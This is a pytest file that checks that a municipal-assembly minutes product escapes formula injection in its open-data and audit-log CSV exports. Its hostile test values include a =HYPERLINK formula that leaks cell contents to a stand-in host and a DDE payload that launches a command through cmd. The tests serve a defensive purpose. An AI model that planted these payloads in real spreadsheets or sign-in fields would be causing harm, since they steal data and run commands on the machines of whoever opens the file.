"""CSV formula injection (issue 16): every CSV the product writes neutralises text a spreadsheet would run as a formula.

A speaker's name ``=HYPERLINK(...)`` in the open-data CSV and a user name typed at a failed sign-in in the audit CSV
were written as they are; Excel would run them. Text cells starting with = + - @, a tab or a carriage return now start
with a single quote (OWASP); numbers stay numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from exports import MinutesDocument, SpeakerKind, Speech
from exports.csv_safety import safe_cell
from exports.opendata import render_csv
from minutes.errors import AuthError
from minutes.services import Runtime, audit
from minutes.services.audit import AuditEntry, to_csv
from minutes.settings import Settings

LINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"クリック")'
HOSTILE = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("value", HOSTILE)
def test_safe_cell_quotes_formula_text_and_keeps_numbers(value):
    assert safe_cell(value) == "'" + value
    assert safe_cell("山田太郎") == "山田太郎" and safe_cell("") == ""
    assert safe_cell(-1.5) == -1.5 and safe_cell(-3) == -3 and safe_cell(None) is None


def test_open_data_csv_neutralises_a_formula_speaker_name():
    document = MinutesDocument(
        assembly="大磯町議会",
        convened=dt.date(2025, 12, 2),
        session=4,
        issue=2,
        items=(
            Speech(LINK, "ただいまから会議を開きます。", role="議長", start=-1.5, end=2.25),
            Speech("佐藤花子", "質問します。", seat=3, group="@SUM(1+1)", yomi="-さとう", kind=SpeakerKind.MEMBER),
        ),
    )
    header, first, second = _rows(render_csv(document))
    chair, member = dict(zip(header, first, strict=True)), dict(zip(header, second, strict=True))
    assert chair["speaker"] == "'" + LINK
    assert (member["speakerGroup"], member["speakerYomi"]) == ("'@SUM(1+1)", "'-さとう")
    # numbers stay numbers: a negative time is not quoted
    numbers = (chair["startTime"], chair["endTime"], chair["speechOrder"], member["seatNumber"])
    assert numbers == ("-1.5", "2.25", "1", "3")
    assert member["speaker"] == "佐藤花子" and chair["speakerPosition"] == "議長"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in (first, second) for cell in row[:5])


def test_audit_csv_neutralises_hostile_cells():
    entries = [
        AuditEntry(i, dt.datetime(2025, 12, 2, 10, i, tzinfo=dt.UTC), name, "app", "login_failed", "user", "", None,
                   {"reason": "unknown"}, "+81 ip")
        for i, name in enumerate(HOSTILE, start=1)
    ]  # fmt: skip
    header, *rows = _rows(to_csv(entries))
    assert header[:3] == ["id", "at", "actor"]
    for row, name in zip(rows, HOSTILE, strict=True):
        assert row[2] == "'" + name
        assert row[9] == "'+81 ip"
        assert row[0].isdigit() and row[8] == '{"reason": "unknown"}'


def test_a_name_typed_at_a_failed_sign_in_is_quoted_in_the_audit_export(tmp_path):
    data = tmp_path / "data"
    runtime = Runtime(Settings(data_dir=data, database_url=f"sqlite:///{data / 'minutes.db'}", device="cpu"))
    try:
        with pytest.raises(AuthError):
            runtime.sign_in.authenticate(LINK, "wrong password", ip="192.0.2.9")
        entries = runtime.operator("system").audit.events(action="login_failed")
        assert [e.actor for e in entries] == [LINK]
        header, row = _rows(audit.to_csv(entries))
        assert dict(zip(header, row, strict=True))["actor"] == "'" + LINK
    finally:
        runtime.engine.dispose()
